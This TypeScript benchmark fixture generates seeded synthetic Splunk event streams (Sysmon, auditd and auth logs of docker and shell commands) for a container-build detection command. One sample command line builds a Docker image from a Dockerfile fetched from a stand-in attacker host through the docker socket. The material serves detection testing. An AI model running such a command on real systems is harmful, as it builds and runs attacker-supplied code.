/**
 * A realistic splunkd → command stream for the benchmark: getinfo, then execute chunks of 50,000
 * events (~1.3 KB each) mixing Windows Sysmon XML, auditd and syslog, about 1% of them builds.
 * Deterministic (seeded), so every run measures the same bytes.
 */
import { encodeFrame } from '../scp/frame';

function rng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const hex = (s: string) => Buffer.from(s, 'utf8').toString('hex').toUpperCase();

const BENIGN_WIN = [
  '"C:\\Windows\\system32\\svchost.exe" -k netsvcs -p -s Schedule',
  '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US',
  'C:\\Windows\\system32\\cmd.exe /c "echo hello > C:\\Users\\alice\\out.txt"',
  '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -Command Get-Process',
];
const BUILD_WIN = [
  '"C:\\Program Files\\Docker\\Docker\\resources\\bin\\docker.exe" build -t app C:\\Users\\alice\\AppData\\Local\\Temp\\ctx',
  'docker build --no-cache -t web .',
];
const BENIGN_LINUX = [
  ['ls', '-la', '/var/log'],
  ['grep', '-r', 'error', '/var/log/syslog'],
  ['python3', '/opt/app/worker.py', '--queue', 'default'],
  ['systemctl', 'status', 'nginx'],
];
const BUILD_LINUX = [
  ['docker', 'build', '--no-cache', '-t', 'atomictest_t1612', '/tmp/atomictest_t1612'],
  ['docker', '-H', 'unix:///var/run/docker.sock', 'build', '-t', 'x', '/tmp/x'],
  ['podman', 'build', '-t', 'y', '.'],
];

function sysmonXml(r: () => number, host: string, cmd: string, parent: string, pid: number): string {
  const guid =
    '{' +
    Math.floor(r() * 1e12)
      .toString(16)
      .padStart(8, '0') +
    '-1111-2222-3333-444455556666}';
  return (
    `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2026-11-27T10:00:00.000000000Z'/><EventRecordID>${pid}</EventRecordID><Correlation/><Execution ProcessID='3316' ThreadID='4084'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>${host}</Computer><Security UserID='S-1-5-18'/></System>` +
    `<EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>2026-11-27 10:00:00.000</Data><Data Name='ProcessGuid'>${guid}</Data><Data Name='ProcessId'>${pid}</Data><Data Name='Image'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='FileVersion'>10.0.19041.1</Data><Data Name='Description'>Windows Command Processor</Data><Data Name='Product'>Microsoft Windows Operating System</Data><Data Name='Company'>Microsoft Corporation</Data><Data Name='OriginalFileName'>Cmd.Exe</Data>` +
    `<Data Name='CommandLine'>${cmd.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;')}</Data><Data Name='CurrentDirectory'>C:\\Users\\alice\\</Data><Data Name='User'>CORP\\alice</Data><Data Name='LogonGuid'>${guid}</Data><Data Name='LogonId'>0x3e7</Data><Data Name='TerminalSessionId'>1</Data><Data Name='IntegrityLevel'>High</Data><Data Name='Hashes'>SHA256=${'AB'.repeat(32)}</Data><Data Name='ParentProcessGuid'>${guid}</Data><Data Name='ParentProcessId'>${pid - 1}</Data><Data Name='ParentImage'>C:\\Windows\\explorer.exe</Data><Data Name='ParentCommandLine'>${parent}</Data></EventData></Event>`
  );
}

function auditdExecve(serial: number, argv: string[]): string {
  const args = argv.map((a, i) => `a${i}=${/[\s"]/.test(a) ? hex(a) : `"${a}"`}`).join(' ');
  return `type=EXECVE msg=audit(1764285801.${String(serial % 1000).padStart(3, '0')}:${serial}): argc=${argv.length} ${args}`;
}

function auditdSyscall(serial: number, argv: string[], pid: number): string {
  return `type=SYSCALL msg=audit(1764285801.${String(serial % 1000).padStart(3, '0')}:${serial}): arch=c000003e syscall=59 success=yes exit=0 a0=55d5c2a0 a1=55d5c2b0 a2=55d5c2c0 a3=8 items=2 ppid=${pid - 7} pid=${pid} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="${argv[0]}" exe="/usr/bin/${argv[0]}" subj=unconfined key="exec"`;
}

export interface StreamSpec {
  chunks: number;
  eventsPerChunk: number;
  buildRate: number;
  seed?: number;
}

const DOCKER_CMDS = [
  "docker ps -a --format '{{.Names}} {{.Status}}'",
  "docker inspect --format '{{.State.Health.Status}}' web-1",
  'docker logs --tail 100 --since 15m api-gateway',
  'docker pull registry.corp.example/base/alpine:3.19',
  "docker run --rm -v /srv/backup:/data alpine:3.19 sh -c 'tar czf /data/etc.tgz /etc'",
  'docker exec -i db-primary psql -U app -c "select 1"',
  'docker compose -f /srv/app/compose.yml up -d --remove-orphans',
  'docker stats --no-stream --format json',
  'docker image prune -f --filter until=168h',
  'docker network inspect bridge',
];
const DOCKER_BUILDS = [
  'docker build --no-cache -t atomictest_t1612 /tmp/atomictest_t1612',
  'docker build -t registry.corp.example/app:ci-2231 .',
  'docker -H unix:///var/run/docker.sock build -f https://evil.example/Dockerfile .',
];
const DOCKER_PARENTS: [image: string, cmd: string][] = [
  ['/usr/bin/bash', '/bin/bash /opt/monitor/check-containers.sh'],
  ['/usr/bin/python3', '/usr/bin/python3 /opt/ansible/runner.py --limit web'],
  ['/usr/lib/systemd/systemd', '/usr/lib/systemd/systemd --switched-root --system --deserialize 31'],
  ['/usr/bin/bash', '-bash'],
  ['/usr/local/bin/gitlab-runner', '/usr/local/bin/gitlab-runner run --working-directory /home/gitlab-runner'],
];

const xmlText = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/** Sysmon for Linux EID 1 as it renders (double-quoted attributes, every field present; cf. the OTRF sample). */
function linuxSysmonExec(r: () => number, host: string, cmd: string, parent: [string, string], pid: number): string {
  const guid = () =>
    '{' +
    Math.floor(r() * 0xffffffff)
      .toString(16)
      .padStart(8, '0') +
    '-fc0d-627b-4874-61f901560000}';
  const d = (name: string, v: string) => `<Data Name="${name}">${xmlText(v)}</Data>`;
  return (
    `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-11-27T10:00:00.003485000Z"/><EventRecordID>${pid * 3}</EventRecordID><Correlation/><Execution ProcessID="1590" ThreadID="1590"/><Channel>Linux-Sysmon/Operational</Channel><Computer>${host}</Computer><Security UserId="0"/></System><EventData>` +
    d('RuleName', '-') +
    d('UtcTime', '2026-11-27 10:00:00.000') +
    d('ProcessGuid', guid()) +
    d('ProcessId', String(pid)) +
    d('Image', '/usr/bin/docker') +
    d('FileVersion', '-') +
    d('Description', '-') +
    d('Product', '-') +
    d('Company', '-') +
    d('OriginalFileName', '-') +
    d('CommandLine', cmd) +
    d('CurrentDirectory', r() < 0.5 ? '/home/deploy' : '/srv/app') +
    d('User', r() < 0.7 ? 'root' : 'deploy') +
    d('LogonGuid', guid()) +
    d('LogonId', '0') +
    d('TerminalSessionId', '4294967295') +
    d('IntegrityLevel', 'no level') +
    d('Hashes', '-') +
    d('ParentProcessGuid', guid()) +
    d('ParentProcessId', String(pid - 3)) +
    d('ParentImage', parent[0]) +
    d('ParentCommandLine', parent[1]) +
    `</EventData></Event>`
  );
}

const FIELDS = [
  '_time',
  'host',
  'source',
  'sourcetype',
  'index',
  'splunk_server',
  'linecount',
  '_raw',
  '_bkt',
  '_cd',
  '_indextime',
  '_serial',
  '_si',
  '_sourcetype',
  'punct',
];

// splunkd quotes every value that is not purely alphanumeric (seen in the sum.map and multibyte
// recordings: `june`, `15` bare; `"33.563009"`, `"_time"`, `"jleverich-mbp.sv.splunk.com"` quoted).
const splunkdQuote = (v: string) => (v === '' || /^[A-Za-z0-9]+$/.test(v) ? v : '"' + v.replace(/"/g, '""') + '"');
const splunkdCsv = (fields: string[], rows: string[][]) =>
  [fields, ...rows].map((r) => r.map(splunkdQuote).join(',') + '\n').join('');

function splunkdRow(
  chunkIndex: number,
  i: number,
  serial: number,
  host: string,
  source: string,
  sourcetype: string,
  raw: string,
): string[] {
  const time = (1764285801 + serial / 1000).toFixed(3);
  return [
    time,
    host,
    source,
    sourcetype,
    'main',
    'idx1.corp.example',
    '1',
    raw,
    `main~${chunkIndex}~6B3E2A1C-0D9F-4C3B-8E8A-5D7C1F0B9A11`,
    `${chunkIndex}:${i}`,
    String(1764285801 + i),
    String(serial),
    `idx1.corp.example,main`,
    sourcetype,
    raw.replace(/[A-Za-z0-9 ]+/g, '').slice(0, 120),
  ];
}

/** Search-time fields a Sysmon add-on extracts from EID 1 (XML key/value), as splunkd sends them. */
export const SYSMON_FIELDS = [
  'EventID',
  'Image',
  'CommandLine',
  'CurrentDirectory',
  'User',
  'ProcessId',
  'ParentImage',
  'ParentCommandLine',
  'ParentProcessId',
  'Computer',
];

function sysmonFieldValues(raw: string): string[] {
  return SYSMON_FIELDS.map((f) => {
    const m =
      f === 'EventID' || f === 'Computer'
        ? new RegExp(`<${f}>([^<]*)<`).exec(raw)
        : new RegExp(`<Data Name="${f}">([^<]*)<`).exec(raw);
    return m ? m[1].replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&') : '';
  });
}

/**
 * The stream the shipped alert sends: its base search keeps only events naming container tooling,
 * so every event here is a Sysmon for Linux process creation of /usr/bin/docker (`buildRate` of them
 * builds). With `extracted`, each event also carries the add-on's search-time fields (SYSMON_FIELDS).
 */
export function makeEvidenceChunkBody(spec: StreamSpec, chunkIndex: number, extracted = false): string {
  const r = rng((spec.seed ?? 1612) + chunkIndex * 7919 + 17);
  const pick = <T>(a: T[]) => a[Math.floor(r() * a.length)];
  const rows: string[][] = [];
  for (let i = 0; i < spec.eventsPerChunk; i++) {
    const build = r() < spec.buildRate;
    const host = `host${Math.floor(r() * 200)}`;
    const pid = 1000 + Math.floor(r() * 60000);
    const serial = chunkIndex * spec.eventsPerChunk + i;
    const raw = linuxSysmonExec(r, host, build ? pick(DOCKER_BUILDS) : pick(DOCKER_CMDS), pick(DOCKER_PARENTS), pid);
    const row = splunkdRow(chunkIndex, i, serial, host, 'Linux-Sysmon/Operational', 'sysmon:linux', raw);
    rows.push(extracted ? [...row, ...sysmonFieldValues(raw)] : row);
  }
  const names = extracted ? [...FIELDS, ...SYSMON_FIELDS] : FIELDS;
  const fields = [...names, ...names.map((f) => '__mv_' + f)];
  return splunkdCsv(
    fields,
    rows.map((row) => [...row, ...names.map(() => '')]),
  );
}

/** One execute chunk's CSV body, with splunkd's layout (value columns, then `__mv_` columns) and quoting. */
export function makeChunkBody(spec: StreamSpec, chunkIndex: number): string {
  const r = rng((spec.seed ?? 1612) + chunkIndex * 7919);
  const pick = <T>(a: T[]) => a[Math.floor(r() * a.length)];
  const rows: string[][] = [];
  for (let i = 0; i < spec.eventsPerChunk; i++) {
    const build = r() < spec.buildRate;
    const kind = r();
    const host = `host${Math.floor(r() * 200)}`;
    const pid = 1000 + Math.floor(r() * 60000);
    const serial = chunkIndex * spec.eventsPerChunk + i;
    let source: string, sourcetype: string, raw: string;
    if (kind < 0.4) {
      source = 'XmlWinEventLog:Microsoft-Windows-Sysmon/Operational';
      sourcetype = 'xmlwineventlog';
      raw = sysmonXml(
        r,
        host,
        build ? pick(BUILD_WIN) : pick(BENIGN_WIN),
        build
          ? '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -File C:\\Users\\alice\\AppData\\Local\\Temp\\b.ps1'
          : 'C:\\Windows\\explorer.exe',
        pid,
      );
    } else if (kind < 0.8) {
      source = '/var/log/audit/audit.log';
      sourcetype = 'linux:audit';
      const argv = build ? pick(BUILD_LINUX) : pick(BENIGN_LINUX);
      raw = r() < 0.5 ? auditdExecve(serial, argv) : auditdSyscall(serial, argv, pid);
      raw += ' ' + 'x'.repeat(Math.floor(r() * 600)); // pad to realistic multi-field auditd sizes
    } else {
      source = '/var/log/auth.log';
      sourcetype = 'linux_secure';
      const cmd = build ? pick(BUILD_LINUX).join(' ') : pick(BENIGN_LINUX).join(' ');
      raw =
        `2026-11-27T23:23:21.363760+00:00 ${host} sudo:  alice : TTY=pts/0 ; PWD=${build ? '/tmp' : '/home/alice'} ; USER=root ; COMMAND=/usr/bin/${cmd}` +
        ' '.repeat(Math.floor(r() * 700));
    }
    rows.push(splunkdRow(chunkIndex, i, serial, host, source, sourcetype, raw));
  }
  const fields = [...FIELDS, ...FIELDS.map((f) => '__mv_' + f)];
  return splunkdCsv(
    fields,
    rows.map((row) => [...row, ...FIELDS.map(() => '')]),
  );
}

export function getinfo(args: string[]): Buffer {
  return encodeFrame({
    action: 'getinfo',
    preview: false,
    streaming_command_will_restart: false,
    searchinfo: {
      args,
      raw_args: args,
      sid: 'bench',
      app: 'search',
      owner: 'admin',
      username: 'admin',
      session_key: 'bench-not-a-secret',
      splunk_version: '9.3.1',
      command: 't1612score',
      maxresultrows: 50000,
      earliest_time: '0',
      latest_time: '0',
    },
  });
}
